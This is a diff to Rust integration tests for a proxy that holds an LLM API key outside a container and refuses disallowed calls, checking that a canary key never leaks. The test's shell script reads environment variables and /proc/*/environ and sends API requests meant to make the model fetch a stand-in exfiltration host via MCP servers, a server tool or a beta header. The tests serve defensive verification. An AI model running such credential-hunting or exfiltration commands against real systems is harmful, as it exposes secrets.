@@ -27,7 +27,7 @@ const KEY: &str = "sk-ant-api03-CANARY-proxy-7c7c7c7c7c7c7c7c";
 
 /// Every way the canary could be written down: as is, reversed, and in base64 at each
 /// of the three alignments it can take inside a longer encoded text.
-fn encodings(secret: &str) -> Vec<String> {
+pub(crate) fn encodings(secret: &str) -> Vec<String> {
     use base64::Engine;
     let b64 = base64::engine::general_purpose::STANDARD;
     let mut v = vec![secret.to_string(), secret.chars().rev().collect()];
@@ -151,6 +151,18 @@ async fn the_proxy_adds_the_api_key_and_refuses_every_other_llm_call() {
     for r in &refusals {
         assert_no_canary("a refusal line", r);
     }
+    // The container reads its own refusals back (a cloud minion copies them into its
+    // log); asking is not a request that goes upstream or counts as one.
+    let told = client
+        .get(format!("{base}{}", lackey::proxy::REFUSALS_PATH))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(told.lines().collect::<Vec<_>>(), refusals);
+    assert_eq!(proxy.refusals().len(), 5);
     // A stub run's proxy has no key: even the one allowed call is refused.
     let stub = Proxy::serve_tcp("127.0.0.1:0".parse().unwrap(), ProxyConfig::default())
         .await
@@ -677,7 +689,11 @@ fn the_container_holds_no_key_and_the_llm_gets_it_from_the_proxy() {
                 tr '\\0' ' ' < /proc/1/cmdline; echo; \
                 git config --list --show-origin 2>&1; \
                 (env; cat /proc/*/environ) 2>/dev/null | base64 -w0; echo; \
-                (env; cat /proc/*/environ) 2>/dev/null | rev; echo hunted";
+                (env; cat /proc/*/environ) 2>/dev/null | rev; \
+                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[],\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://exfil.example/\"}]}'; echo; \
+                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[],\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}'; echo; \
+                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -H 'anthropic-beta: mcp-client-2025-04-04' -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[]}'; echo; \
+                echo hunted";
     let llm = FakeLlm::start(
         KEY,
         vec![
@@ -721,6 +737,29 @@ fn the_container_holds_no_key_and_the_llm_gets_it_from_the_proxy() {
     );
     for r in &received {
         assert_no_canary("a request to the LLM", &String::from_utf8_lossy(&r.raw));
+    }
+    // The ways to make the API fetch a URL for the container (an MCP server, a server
+    // tool, a beta header) were refused by the proxy and never reached the LLM.
+    for refusal in [
+        "may not set `mcp_servers`",
+        "not the server tool `web_fetch_20250910`",
+        "`anthropic-beta` header is not allowed",
+    ] {
+        assert!(text.contains(refusal), "not refused: {refusal}: {text}");
+    }
+    for r in &received {
+        let body = &r.body;
+        assert!(
+            body.get("mcp_servers").is_none(),
+            "an MCP server reached the LLM"
+        );
+        assert!(
+            body["tools"]
+                .as_array()
+                .is_none_or(|t| t.iter().all(|t| t.get("type").is_none())),
+            "a server tool reached the LLM: {}",
+            body["tools"]
+        );
     }
     let dir = std::fs::read_dir(&artifacts)
         .unwrap()
